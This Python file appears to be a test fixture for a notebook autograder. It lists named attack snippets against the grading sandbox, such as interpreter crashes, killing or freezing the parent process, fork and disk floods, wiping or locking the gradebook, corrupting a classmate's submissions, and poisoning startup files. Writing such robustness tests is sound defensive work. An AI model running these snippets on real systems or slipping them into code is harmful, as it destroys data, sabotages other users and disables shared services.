"""Attacks on the grading itself: they want a row to be lost, their own or a classmate's."""

from attacks.attack import fault

_STOP = [
    fault(
        "interrupt_proof_loop",
        "A loop that catches the interrupt of a time limit.",
        """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    ),
    fault("exit_process", "os._exit ends the interpreter.", "os._exit(0)"),
    fault("segfault", "A read at address 0.", "import ctypes\nctypes.string_at(0)"),
    fault("kill_self", "The process kills itself.", "import signal\nos.kill(os.getpid(), 9)"),
    fault(
        "crash_in_function",
        "The function crashes the interpreter when a test calls it.",
        "def double(x):\n    os._exit(1)",
    ),
    fault(
        "deep_recursion",
        "A recursion without end and without Python's limit.",
        """
sys.setrecursionlimit(10**8)

class Deep:
    def __getattr__(self, name):
        return getattr(self, name + "x")

def deep(n):
    return [deep] and eval("deep(n + 1)")

deep(0)
""",
    ),
    fault(
        "uninterruptible_call",
        "A sum in C that takes hours and looks at no signal.",
        "sum(range(10**13))",
    ),
    fault(
        "close_descriptors",
        "It closes every file descriptor but the standard ones.",
        "os.closerange(3, 1024)",
    ),
    fault(
        "garbage_on_descriptors",
        "It writes garbage to every file descriptor that it has.",
        """
for descriptor in range(3, 256):
    try:
        os.write(descriptor, b"\\xff\\x00garbage" * 1000)
    except OSError:
        pass
""",
    ),
    fault(
        "leave_the_shell",
        "It asks the interpreter to end.",
        "if shell:\n    shell.ask_exit()\nraise SystemExit",
    ),
]

_HARM = [
    fault(
        "kill_everything",
        "It kills every process that it may.",
        "os.kill(-1, 9)",
        cold=True,
    ),
    fault(
        "kill_parent",
        "It kills its parent process.",
        "os.kill(os.getppid(), 9)",
        cold=True,
    ),
    fault(
        "stop_parent",
        "It stops its parent process, which then waits for ever.",
        "import signal\nos.kill(os.getppid(), signal.SIGSTOP)",
        cold=True,
    ),
    fault(
        "write_parents_memory",
        "It writes into the memory of its parent process.",
        """
parent = os.getppid()
maps = open(f"/proc/{parent}/maps").read().splitlines()
with open(f"/proc/{parent}/mem", "r+b", 0) as memory:
    for line in maps:
        if "[stack]" in line or "[heap]" in line:
            start, end = (int(number, 16) for number in line.split()[0].split("-"))
            memory.seek(start)
            memory.write(bytes(end - start))
""",
        cold=True,
    ),
    fault(
        "disk_flood",
        "It fills the disk.",
        """
for number in range(64):
    for folder in (".", "/tmp"):
        try:
            with open(f"{folder}/flood{number}", "wb") as file:
                for _ in range(63):
                    file.write(bytes(1 << 20))
        except OSError:
            pass
""",
    ),
    fault(
        "file_flood",
        "It makes files until the file system takes no more.",
        """
try:
    for number in range(40000):
        open(f"/tmp/flood{number}", "w").close()
except OSError:
    pass
""",
    ),
    fault(
        "fork_flood",
        "Processes that outlive the notebook take every place for a process.",
        """
import time
if os.fork() == 0:
    os.setsid()
    for _ in range(3000):
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
    os._exit(0)
time.sleep(1)
""",
        cold=True,
    ),
    fault(
        "output_flood",
        "It prints more than there is memory for.",
        """
for _ in range(200):
    print("x" * (1 << 20), flush=True)
""",
        cold=True,
    ),
    fault(
        "truncate_gradebook",
        "It empties the gradebook.",
        'open("/tmp/class/gradebook.db", "wb").close()',
    ),
    fault(
        "delete_grades",
        "It deletes the rows of the gradebook when they are written.",
        """
import sqlite3
with sqlite3.connect("file:/tmp/class/gradebook.db?mode=rw", uri=True) as database:
    database.execute("create trigger gone after update on grade begin delete from grade; end")
""",
    ),
    fault(
        "lock_gradebook",
        "A process that outlives the notebook keeps the gradebook locked.",
        """
import sqlite3, time
database = sqlite3.connect("file:/tmp/class/gradebook.db?mode=rw", uri=True)
if os.fork() == 0:
    os.setsid()
    own = sqlite3.connect("file:/tmp/class/gradebook.db?mode=rw", uri=True)
    own.execute("begin exclusive")
    time.sleep(60)
    os._exit(0)
time.sleep(0.2)
""",
    ),
    fault(
        "delete_submissions",
        "It deletes what the others handed in.",
        'import shutil\nshutil.rmtree("/tmp/class/submitted/classmate")',
    ),
    fault(
        "spoil_classmate",
        "It writes wrong answers into the notebook of a classmate.",
        """
import glob
for path in glob.glob("/tmp/class/submitted/classmate/*/*.ipynb"):
    text = open(path).read().replace("return a + b", "return a - b")
    open(path, "w").write(text)
""",
    ),
    fault(
        "poison_startup",
        "It leaves a file that every later interpreter of the user runs first.",
        """
folder = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(folder, exist_ok=True)
with open(folder + "/first.py", "w") as file:
    file.write("import os\\nos._exit(1)\\n")
with open(os.path.expanduser("~/sitecustomize.py"), "w") as file:
    file.write("import os\\nos._exit(1)\\n")
""",
    ),
    fault(
        "mount_over_class",
        "It mounts an empty file system over the class folder.",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.mount(b"tmpfs", b"/tmp/class", b"tmpfs", 0, None) != 0:
    raise OSError(ctypes.get_errno(), "mount")
""",
    ),
    fault(
        "raise_priority",
        "A process that outlives the notebook kills every kernel that is started later.",
        """
if os.fork() == 0:
    os.setsid()
    own = os.getpid()
    import time
    for _ in range(3000):
        for name in os.listdir("/proc"):
            try:
                if name.isdigit() and int(name) != own:
                    line = open(f"/proc/{name}/cmdline").read()
                    if "ipykernel" in line or "qutils.grading" in line:
                        os.kill(int(name), 9)
            except OSError:
                pass
        time.sleep(0.01)
    os._exit(0)
""",
        cold=True,
    ),
]

ATTACKS = [*_STOP, *_HARM]
